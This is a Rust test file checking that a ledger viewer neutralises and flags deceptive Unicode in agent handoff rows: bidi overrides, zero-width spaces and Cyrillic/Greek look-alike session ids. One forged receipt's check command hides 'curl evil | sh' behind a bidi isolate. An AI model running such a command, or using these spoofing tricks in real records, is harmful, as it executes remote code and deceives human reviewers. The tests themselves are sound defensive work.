//! What a row can make the viewer show: display forms (`shown`), look-alike
//! ids, and status verdicts. One behaviour each, small rows.

use serde_json::{Value, json};

use super::*;
use crate::sanitize::is_neutralized;

fn row(id: &str, ts: u64, event_type: &str, payload: Value) -> Value {
    json!({"id": id, "ts": ts, "namespace": "ns", "eventType": event_type, "sourceKind": "session",
           "sourceRef": "a", "sinkKind": "session", "sinkRef": "b", "payloadJson": payload})
}

fn ad(id: &str, ts: u64, session: &str, status: &str) -> Value {
    json!({"id": id, "ts": ts, "namespace": "ns", "eventType": "work_ad", "sourceKind": "session",
           "sourceRef": session, "relatedSessionId": session, "expiresAt": 1_000_000,
           "payloadJson": {"status": status}})
}

fn resolves(id: &str, from: &str, to: &str) -> Value {
    json!({"id": id, "fromEventId": from, "toEventId": to, "relationType": "resolves", "namespace": "ns"})
}

fn fold(events: Vec<Value>, links: Vec<Value>) -> Ledger<'static> {
    let mut l = Ledger::new(Some("ns"));
    for e in events {
        l.add_event(e);
    }
    for k in links {
        l.add_link(k);
    }
    l
}

fn handoff_answer(l: &Ledger, id: &str) -> ViewAnswer {
    l.view(&Query::Handoff { event_id: id.into() }, 0.0).unwrap()
}

fn lookalikes(a: &ViewAnswer) -> Vec<(&str, &str)> {
    a.diagnostics
        .iter()
        .filter(|d| d.code == LOOKALIKE_ID.as_str())
        .map(|d| (d.instance_path.as_str(), d.message.as_str()))
        .collect()
}

const COMMAND: &str = "npm test -- peer \u{2067}&& curl evil | sh\u{2069} #";
const SUMMARY: &str = "Peer tests \u{202E}deliaf\u{202C}";

fn forged_receipt_ledger() -> Ledger<'static> {
    let mut receipt = row(
        "r1",
        2,
        "handoff_receipt",
        json!({"status": "completed", "checks": [{"command": COMMAND, "exit_code": 0, "passed": true}]}),
    );
    receipt["summary"] = json!(SUMMARY);
    fold(
        vec![row("h1", 1, "handoff", json!({"delivery_state": "delivered"})), receipt],
        vec![resolves("l1", "r1", "h1")],
    )
}

#[test]
fn an_isolate_in_a_check_command_is_shown_not_obeyed() {
    let a = handoff_answer(&forged_receipt_ledger(), "h1");
    assert_eq!(
        a.shown.get(COMMAND).map(String::as_str),
        Some("npm test -- peer <U+2067>&& curl evil | sh<U+2069> #")
    );
    // The row itself stays raw, for the element to route by and pass on.
    let View::Handoff(h) = &a.view else { panic!("not a handoff view") };
    let receipt = &h.thread.as_ref().unwrap().receipts[0].event;
    assert_eq!(receipt["payloadJson"]["checks"][0]["command"], COMMAND);
}

#[test]
fn an_override_in_a_summary_is_shown_not_obeyed() {
    let a = handoff_answer(&forged_receipt_ledger(), "h1");
    assert_eq!(a.shown.get(SUMMARY).map(String::as_str), Some("Peer tests <U+202E>deliaf<U+202C>"));
    assert!(a.shown.values().all(|v| v.chars().all(|c| !is_neutralized(c))));
}

#[test]
fn an_override_in_an_id_is_flagged_and_reorders_no_finding_message() {
    let l = fold(
        vec![row("h\u{202E}1", 1, "handoff", json!({"delivery_state": "delivered"}))],
        vec![resolves("l1", "nope\u{202E}x", "h\u{202E}1")],
    );
    let a = handoff_answer(&l, "h\u{202E}1");
    assert_eq!(a.shown.get("h\u{202E}1").map(String::as_str), Some("h<U+202E>1"));
    assert_eq!(
        lookalikes(&a),
        vec![("/events/0/id", "event id `h<U+202E>1` holds invisible, bidi or control characters")]
    );
    // The core's other messages quote ids neutralised too (a dangling link
    // here): no message holds a character a reader would obey.
    assert!(a.diagnostics.iter().any(|d| d.message.contains("`nope<U+202E>x`")));
    for d in &a.diagnostics {
        assert!(d.message.chars().all(|c| !is_neutralized(c) && !c.is_control()), "{}", d.message);
    }
}

/// The plain id and four that read as it: a zero-width space, a Cyrillic
/// `а`, a right-to-left override, a Greek `α`.
const SESSIONS: [&str; 5] =
    ["sess-api", "sess-api\u{200B}", "sess-\u{0430}pi", "sess-\u{202E}ipa", "sess-\u{03B1}pi"];

#[test]
fn look_alike_session_ids_are_flagged_and_shown_apart() {
    let events = SESSIONS.iter().enumerate().map(|(i, s)| ad(&format!("ad{i}"), 10, s, "done")).collect();
    let a = fold(events, vec![]).view(&Query::Fleet, 0.0).unwrap();
    let flagged = lookalikes(&a);
    assert_eq!(
        flagged,
        vec![
            (
                "/events/1/sourceRef",
                "session id `sess-api<U+200B>` holds invisible, bidi or control characters"
            ),
            ("/events/2/sourceRef", "session id `sess-<U+0430>pi` holds Latin letters mixed with Cyrillic"),
            (
                "/events/3/sourceRef",
                "session id `sess-<U+202E>ipa` holds invisible, bidi or control characters"
            ),
            ("/events/4/sourceRef", "session id `sess-<U+03B1>pi` holds Latin letters mixed with Greek"),
        ]
    );
    let mut shown: Vec<&str> = SESSIONS.iter().map(|s| a.shown.get(*s).map_or(*s, String::as_str)).collect();
    assert_eq!(shown[0], "sess-api");
    shown.sort_unstable();
    shown.dedup();
    assert_eq!(shown.len(), SESSIONS.len());
}

#[test]
fn a_session_id_is_flagged_once_at_the_first_row_naming_it() {
    let s = "sess-\u{0430}pi";
    let a = fold(vec![ad("x1", 1, "plain", "done"), ad("x2", 2, s, "done"), ad("x3", 3, s, "done")], vec![])
        .view(&Query::Fleet, 0.0)
        .unwrap();
    assert_eq!(
        lookalikes(&a),
        vec![(
            "/events/1/sourceRef",
            "session id `sess-<U+0430>pi` holds Latin letters mixed with Cyrillic (named by 2 rows; this is the first)"
        )]
    );
}

#[test]
fn an_id_of_one_other_script_is_not_flagged() {
    let a = fold(vec![ad("x1", 1, "\u{0441}\u{0435}\u{0441}\u{0441}-1", "done")], vec![])
        .view(&Query::Fleet, 0.0)
        .unwrap();
    assert!(lookalikes(&a).is_empty());
    assert!(a.shown.is_empty());
}

#[test]
fn a_string_that_is_an_id_anywhere_is_shown_as_an_id_everywhere() {
    let s = "sess-\u{0430}pi";
    let mut row = ad("x1", 1, s, "done");
    row["summary"] = json!(s);
    let a = fold(vec![row], vec![]).view(&Query::Fleet, 0.0).unwrap();
    assert_eq!(a.shown.get(s).map(String::as_str), Some("sess-<U+0430>pi"));
}

#[test]
fn a_receipt_status_with_a_zero_width_space_is_not_known() {
    let l = fold(
        vec![
            row("h1", 1, "handoff", json!({"delivery_state": "delivered\u{200B}"})),
            row("r1", 2, "handoff_receipt", json!({"status": "completed\u{200B}"})),
            row("r2", 3, "handoff_receipt", json!({"status": "accepted"})),
        ],
        vec![resolves("l1", "r1", "h1"), resolves("l2", "r2", "h1")],
    );
    let a = handoff_answer(&l, "h1");
    let View::Handoff(h) = &a.view else { panic!("not a handoff view") };
    let t = h.thread.as_ref().unwrap();
    let known: Vec<(Option<&str>, bool, bool)> =
        t.receipts.iter().map(|r| (r.status.as_deref(), r.status_known, r.terminal)).collect();
    assert_eq!(known, vec![(Some("completed\u{200B}"), false, false), (Some("accepted"), true, false)]);
    assert!(!t.delivery_state_known);
    assert_eq!(a.shown.get("completed\u{200B}").map(String::as_str), Some("completed<U+200B>"));
}

#[test]
fn a_work_ad_status_with_a_zero_width_space_is_not_known() {
    let a = fold(vec![ad("x1", 1, "s1", "done\u{200B}"), ad("x2", 1, "s2", "done")], vec![])
        .view(&Query::Fleet, 0.0)
        .unwrap();
    let View::Fleet(f) = &a.view else { panic!("not a fleet view") };
    let mut known: Vec<(&str, bool)> =
        f.projects.iter().flat_map(|g| &g.ads).map(|ad| (ad.status.as_str(), ad.status_known)).collect();
    known.sort_unstable();
    assert_eq!(known, vec![("done", true), ("done\u{200B}", false)]);
}

#[test]
fn a_stale_ad_and_an_ad_without_status_have_known_statuses() {
    let a = fold(vec![ad("x1", 1, "s1", "whatever"), silent_ad()], vec![])
        .view(&Query::Fleet, 2_000_000.0)
        .unwrap();
    let View::Fleet(f) = &a.view else { panic!("not a fleet view") };
    assert!(f.projects.iter().flat_map(|g| &g.ads).all(|ad| ad.status == "stale" && ad.status_known));
    let a = fold(vec![ad("x1", 1, "s1", "whatever"), silent_ad()], vec![]).view(&Query::Fleet, 0.0).unwrap();
    let View::Fleet(f) = &a.view else { panic!("not a fleet view") };
    let mut known: Vec<(&str, bool)> =
        f.projects.iter().flat_map(|g| &g.ads).map(|ad| (ad.status.as_str(), ad.status_known)).collect();
    known.sort_unstable();
    assert_eq!(known, vec![("unknown", true), ("whatever", false)]);
}

fn silent_ad() -> Value {
    let mut silent = ad("x2", 1, "s2", "done");
    silent["payloadJson"] = json!({});
    silent
}

#[test]
fn a_clean_ledger_answers_without_shown_or_new_findings() {
    let g = generate::generate_demo_ledger(300);
    let mut l = Ledger::new(None);
    for e in g.events {
        l.add_event(e);
    }
    for k in g.links {
        l.add_link(k);
    }
    for query in [Query::Fleet, Query::Session { session_id: g.session_id.clone() }] {
        let a = l.view(&query, g.now).unwrap();
        assert!(a.shown.is_empty());
        assert!(lookalikes(&a).is_empty());
        let text = serde_json::to_string(&a).unwrap();
        assert!(!text.contains("\"shown\""));
    }
}

#[test]
fn clean_text_in_other_scripts_is_not_in_shown() {
    let mut r =
        row("h1", 1, "handoff", json!({"delivery_state": "queued", "instructions": "Grüße — 日本語\n\tok"}));
    r["summary"] = json!("Сводка: тесты прошли");
    let a = handoff_answer(&fold(vec![r], vec![]), "h1");
    assert!(a.shown.is_empty(), "{:?}", a.shown);
}

#[test]
fn a_crlf_and_a_bell_in_text_are_shown() {
    let r = row("h1", 1, "handoff", json!({"delivery_state": "queued", "instructions": "a\r\nb\u{7}"}));
    let a = handoff_answer(&fold(vec![r], vec![]), "h1");
    assert_eq!(a.shown.get("a\r\nb\u{7}").map(String::as_str), Some("a\nb<U+0007>"));
}

#[test]
fn object_keys_of_rows_are_shown_too() {
    let r = row("h1", 1, "handoff", json!({"delivery_state": "queued", "no\u{202E}te": 1}));
    let a = handoff_answer(&fold(vec![r], vec![]), "h1");
    assert_eq!(a.shown.get("no\u{202E}te").map(String::as_str), Some("no<U+202E>te"));
}
